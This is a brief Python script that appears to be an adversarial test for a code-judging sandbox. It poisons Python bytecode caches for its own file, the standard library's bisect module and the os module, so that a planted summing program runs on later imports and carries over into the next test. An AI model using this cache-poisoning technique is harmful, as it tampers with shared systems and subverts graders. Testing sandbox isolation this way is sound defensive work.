# attacks: the next test, by bytecode in the cache of its own directory and its modules'
# sum: wrong_answer
import importlib.util, os, py_compile
open("own.py", "w").write("print(sum(map(int, input().split())))\n")
for target in (__file__, "/usr/lib/python3.11/bisect.py", os.__file__):
    cache = importlib.util.cache_from_source(target)
    try:
        os.makedirs(os.path.dirname(cache), exist_ok=True)
        py_compile.compile("own.py", cache, dfile=target)
    except OSError: pass
